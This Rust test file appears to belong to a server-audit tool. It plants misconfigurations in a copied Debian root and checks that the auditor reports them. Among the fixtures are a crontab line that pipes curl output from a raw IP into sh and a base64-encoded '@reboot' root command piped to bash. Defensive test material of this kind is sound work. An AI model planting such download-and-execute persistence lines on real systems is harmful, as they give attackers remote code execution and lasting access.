//! The system-side checks of issue 17 on a real Debian 12 hosting root
//! (`scripts/debroot`, built by mmdebstrap): each mistake is planted in a copy
//! with the root's own tools where they exist (`useradd`, `chpasswd` through
//! PAM's yescrypt, `postconf`), the copy is reviewed offline, and a second
//! copy with the careful administrator's version of each setting (a normal
//! `wp-cron.php` job, `loopback-only`, a WordPress jail, keys-only SSH, a time
//! service, real dumps, strong passwords) must raise none of them. A live test
//! maps a library into a process, deletes it as an upgrade would, and expects
//! `check_services` to name the process.
//!
//! Needs root and the packages in .ci/packages/syschecks.txt (mmdebstrap for
//! `scripts/debroot`, openssl, ssh-keygen). Run: `cargo test -p vigil-tools --test syschecks_debroot`.
#![allow(clippy::disallowed_methods, reason = "tests build and inspect fixtures with std::fs")]
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "test setup: a failure should stop the test")]

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use vigil_tools::{Ctx, Finding, Host, Registry};

/// What the debroot tests need of the machine.
const NEEDS: &[&str] = &["root", "mmdebstrap", "openssl", "ssh-keygen", "chroot"];

/// A private copy of the root (`cp -a`: ownership and modes as installed).
fn copy(root: &Path) -> (tempfile::TempDir, PathBuf) {
    let t = tempfile::tempdir().unwrap();
    let r = t.path().join("root");
    let st = Command::new("cp").arg("-a").arg(root).arg(&r).status().unwrap();
    assert!(st.success());
    (t, r)
}

/// Run a program inside the root (the root's own useradd/chpasswd/postconf), with `stdin`.
fn chroot(r: &Path, args: &[&str], stdin: &str) {
    let mut c = Command::new("chroot").arg(r).args(args).stdin(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap();
    c.stdin.take().unwrap().write_all(stdin.as_bytes()).unwrap();
    assert!(c.wait().unwrap().success(), "chroot {args:?} failed");
}

fn write(r: &Path, path: &str, text: &str) {
    let p = r.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn add_user(r: &Path, name: &str, password: &str) {
    chroot(r, &["useradd", "-m", "-s", "/bin/bash", name], "");
    chroot(r, &["chpasswd"], &format!("{name}:{password}\n"));
}

/// One throwaway ed25519 public key.
fn public_key(dir: &Path) -> String {
    let k = dir.join("shared");
    let st = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "ops@laptop", "-f"])
        .arg(&k)
        .status()
        .unwrap();
    assert!(st.success());
    std::fs::read_to_string(k.with_extension("pub")).unwrap()
}

fn gzip(r: &Path, path: &str, text: &str) {
    let p = r.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    let mut e = flate2::write::GzEncoder::new(std::fs::File::create(p).unwrap(), flate2::Compression::default());
    e.write_all(text.as_bytes()).unwrap();
    e.finish().unwrap();
}

/// Every finding of the tools these checks live in.
async fn review(r: &Path) -> (Vec<Finding>, String) {
    let reg = Registry::builtin();
    let ctx = Ctx::new(Host::at(r));
    let mut all = Vec::new();
    let mut text = String::new();
    for tool in ["audit_accounts", "check_services", "check_backups"] {
        let out = reg.call(&ctx, tool, serde_json::json!({})).await.unwrap();
        text.push_str(&serde_json::to_string(&out.facts).unwrap());
        text.push_str(&serde_json::to_string(&out.findings).unwrap());
        all.extend(out.findings);
    }
    (all, text)
}

fn ids<'a>(f: &'a [Finding], id: &str) -> Vec<&'a Finding> {
    f.iter().filter(|x| x.id == id).collect()
}

const DUMP_HEADER: &str = "-- MariaDB dump 10.19  Distrib 10.11.6-MariaDB, for debian-linux-gnu (x86_64)\n--\n-- Host: localhost    Database: shop\n-- ------------------------------------------------------\n/*!40101 SET NAMES utf8mb4 */;\n";

#[tokio::test]
#[cfg_attr(
    any(
        vigil_missing = "root",
        vigil_missing = "mmdebstrap",
        vigil_missing = "openssl",
        vigil_missing = "ssh-keygen",
        vigil_missing = "chroot"
    ),
    ignore = "needs root, mmdebstrap, openssl, ssh-keygen, chroot (.ci/packages/syschecks.txt)"
)]
async fn planted_mistakes_are_found() {
    vigil_testkit::require(NEEDS);
    let base = vigil_testkit::debroot();
    let (t, r) = copy(&base);
    let r = r.as_path();
    // Accounts: a site user whose password is its name (yescrypt, through PAM), one with
    // the most common password, a SHA-512 one from `openssl passwd -6`, and passwordless sudo.
    add_user(r, "shop", "shop");
    add_user(r, "alice", "123456");
    chroot(r, &["useradd", "-m", "-s", "/bin/bash", "bob"], "");
    let sha512 = Command::new("openssl").args(["passwd", "-6", "password"]).output().unwrap();
    let sha512 = String::from_utf8(sha512.stdout).unwrap();
    chroot(r, &["chpasswd", "-e"], &format!("bob:{}\n", sha512.trim()));
    add_user(r, "deploy", "Xk9#mQ2v!Lp7$wR4");
    write(r, "/etc/sudoers.d/deploy", "Cmnd_Alias EVERYTHING = ALL\ndeploy ALL=(ALL:ALL) NOPASSWD: EVERYTHING\n");
    // One key in two accounts.
    let key = public_key(t.path());
    write(r, "/home/shop/.ssh/authorized_keys", &key);
    write(r, "/home/deploy/.ssh/authorized_keys", &format!("# ops\n{key}"));
    // Cron persistence: a site user's crontab and a system one.
    write(
        r,
        "/var/spool/cron/crontabs/shop",
        "# DO NOT EDIT THIS FILE\n*/10 * * * * curl -fsSL http://203.0.113.66/x | sh\n",
    );
    write(r, "/etc/cron.d/sync", "@reboot root echo ZWNobyBvd25lZCA+IC90bXAvLnAK | base64 -d | bash\n");
    // Backups: every dump of the job is its banner only.
    for d in ["01", "02", "03"] {
        gzip(r, &format!("/var/backups/mysql/shop-2026-12-{d}.sql.gz"), DUMP_HEADER);
    }
    // Mail: a relay for a whole public network.
    chroot(r, &["postconf", "-e", "mynetworks = 127.0.0.0/8 [::1]/128 203.0.113.0/24"], "");
    // A WordPress site through Debian's per-host config.
    write(
        r,
        "/etc/wordpress/config-web1.example.org.php",
        "<?php\ndefine('DB_NAME', 'web1');\ndefine('DB_USER', 'web1');\ndefine('DB_HOST', 'localhost');\n",
    );

    let (f, text) = review(r).await;
    let list: Vec<String> = f.iter().map(|x| format!("{} {} {}", x.id, x.severity, x.subject)).collect();
    let list = list.join("\n");

    let weak = ids(&f, "credentials.weak-password");
    let who: Vec<&str> = weak.iter().map(|x| x.subject.as_str()).collect();
    assert!(who.contains(&"shop") && who.contains(&"alice") && who.contains(&"bob"), "{list}");
    assert!(!who.contains(&"deploy"), "{list}");
    assert!(weak.iter().any(|x| x.subject == "shop" && x.title.contains("equals the user name")));
    assert!(weak.iter().any(|x| x.subject == "alice" && x.title.contains("most common")));
    let nopw = ids(&f, "accounts.sudo-nopasswd");
    assert_eq!(nopw.len(), 1, "{list}");
    assert_eq!(nopw[0].subject, "deploy in /etc/sudoers.d/deploy");
    let shared = ids(&f, "accounts.shared-ssh-key");
    assert_eq!(shared.len(), 1, "{list}");
    assert!(shared[0].title.contains("deploy, shop"), "{}", shared[0].title);

    let dl = ids(&f, "hardening.cron-download-exec");
    let mut at: Vec<&str> = dl.iter().map(|x| x.subject.as_str()).collect();
    at.sort_unstable();
    assert_eq!(at, ["/etc/cron.d/sync:1", "/var/spool/cron/crontabs/shop:2"], "{list}");
    assert!(!text.contains("ZWNobyBvd25lZCA"), "the blob is shown");

    assert_eq!(ids(&f, "backups.dumps-empty").len(), 1, "{list}");
    let relay = ids(&f, "ports.mail-open-relay");
    assert_eq!(relay.len(), 1, "{list}");
    assert!(relay[0].evidence.iter().any(|e| e.contains("203.0.113.0/24")));
    // Debian's "Internet Site" answers listens on every interface for mail to itself only.
    assert_eq!(ids(&f, "ports.mail-listens-all").len(), 1, "{list}");
    assert_eq!(ids(&f, "hardening.no-bruteforce-protection").len(), 1, "{list}");
    assert_eq!(ids(&f, "hardening.no-wp-login-jail").len(), 1, "{list}");
    assert_eq!(ids(&f, "hardening.no-time-sync").len(), 1, "{list}");

    assert!(!text.contains("[REDACTED]"), "our own wording trips the redactor");
    // No password and no hash anywhere.
    for secret in ["123456", "Xk9#mQ2v", "$y$", "$6$"] {
        assert!(!text.contains(secret), "{secret} appears in the output");
    }
    println!("findings on the planted root:\n{list}");
}

#[tokio::test]
#[cfg_attr(
    any(
        vigil_missing = "root",
        vigil_missing = "mmdebstrap",
        vigil_missing = "openssl",
        vigil_missing = "ssh-keygen",
        vigil_missing = "chroot"
    ),
    ignore = "needs root, mmdebstrap, openssl, ssh-keygen, chroot (.ci/packages/syschecks.txt)"
)]
async fn the_careful_version_of_each_raises_nothing() {
    vigil_testkit::require(NEEDS);
    let base = vigil_testkit::debroot();
    let (_t, r) = copy(&base);
    let r = r.as_path();
    add_user(r, "carol", "tN4!vX8#qL2@zR6$");
    chroot(r, &["usermod", "-aG", "sudo", "carol"], "");
    write(
        r,
        "/var/spool/cron/crontabs/shop",
        "MAILTO=\"\"\n*/5 * * * * wget -q -O - https://web1.example.org/wp-cron.php?doing_wp_cron >/dev/null 2>&1\n*/15 * * * * cd /usr/share/wordpress && php wp-cron.php\n",
    );
    for d in ["01", "02"] {
        gzip(
            r,
            &format!("/var/backups/mysql/shop-2026-12-{d}.sql.gz"),
            &format!("{DUMP_HEADER}CREATE TABLE `orders` (`id` int);\nINSERT INTO `orders` VALUES (1),(2);\n"),
        );
    }
    chroot(r, &["postconf", "-e", "inet_interfaces = loopback-only"], "");
    write(r, "/etc/ssh/sshd_config.d/50-keys-only.conf", "PasswordAuthentication no\n");
    write(r, "/etc/wordpress/config-web1.example.org.php", "<?php\ndefine('DB_NAME', 'web1');\n");
    write(r, "/etc/fail2ban/jail.conf", "[DEFAULT]\nbantime = 10m\n[sshd]\nport = ssh\n");
    write(r, "/etc/fail2ban/jail.d/defaults-debian.conf", "[sshd]\nenabled = true\n");
    write(
        r,
        "/etc/fail2ban/jail.d/wordpress.local",
        "[wordpress]\nenabled = true\nport = http,https\nlogpath = /var/log/nginx/access.log\n",
    );
    write(
        r,
        "/etc/fail2ban/filter.d/wordpress.conf",
        "[Definition]\nfailregex = ^<HOST> .* \"POST /(wp-login\\.php|xmlrpc\\.php)\n",
    );
    for (dir, unit) in
        [("multi-user.target.wants", "fail2ban.service"), ("sysinit.target.wants", "systemd-timesyncd.service")]
    {
        let d = r.join("etc/systemd/system").join(dir);
        std::fs::create_dir_all(&d).unwrap();
        std::os::unix::fs::symlink(format!("/lib/systemd/system/{unit}"), d.join(unit)).unwrap();
    }

    let (f, _) = review(r).await;
    let new = [
        "credentials.weak-password",
        "accounts.sudo-nopasswd",
        "accounts.shared-ssh-key",
        "hardening.cron-download-exec",
        "hardening.cron-raw-ip",
        "backups.dumps-empty",
        "ports.mail-open-relay",
        "ports.mail-listens-all",
        "hardening.no-bruteforce-protection",
        "hardening.no-wp-login-jail",
        "hardening.no-time-sync",
    ];
    let loud: Vec<String> = f
        .iter()
        .filter(|x| new.contains(&x.id.as_str()))
        .map(|x| format!("{} {}: {:?}", x.id, x.subject, x.evidence))
        .collect();
    assert!(loud.is_empty(), "the careful root raises:\n{}", loud.join("\n"));
}

#[tokio::test]
#[cfg_attr(
    any(vigil_missing = "root", vigil_missing = "/usr/lib/x86_64-linux-gnu/libz.so.1"),
    ignore = "needs root (writes under /usr/local/lib) and zlib's libz.so.1"
)]
async fn a_deleted_library_still_mapped_is_found_live() {
    vigil_testkit::require(&["root", "/usr/lib/x86_64-linux-gnu/libz.so.1"]);
    let src = Path::new("/usr/lib/x86_64-linux-gnu/libz.so.1");
    let dir = PathBuf::from(format!("/usr/local/lib/vigil-stale-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let lib = dir.join("libz.so.1");
    std::fs::copy(src, &lib).unwrap();
    let mut child = Command::new("sleep").arg("60").env("LD_PRELOAD", &lib).spawn().unwrap();
    let maps = format!("/proc/{}/maps", child.id());
    for _ in 0..100 {
        if std::fs::read_to_string(&maps).unwrap_or_default().contains(lib.to_str().unwrap()) {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    // What an upgrade does: the file on disk goes, the process keeps the old copy.
    std::fs::remove_file(&lib).unwrap();
    std::fs::remove_dir(&dir).unwrap();
    let out = Registry::builtin().call(&Ctx::new(Host::live()), "check_services", serde_json::json!({})).await;
    child.kill().unwrap();
    child.wait().unwrap();
    let out = out.unwrap();
    let hit = out
        .findings
        .iter()
        .find(|f| f.id == "updates.stale-libraries" && f.evidence.iter().any(|e| e.contains(lib.to_str().unwrap())));
    let hit = hit.unwrap_or_else(|| panic!("not found: {:#?}", out.findings));
    assert!(hit.evidence.iter().any(|e| e.contains(&format!("{} (sleep)", child.id()))), "{hit:#?}");
}
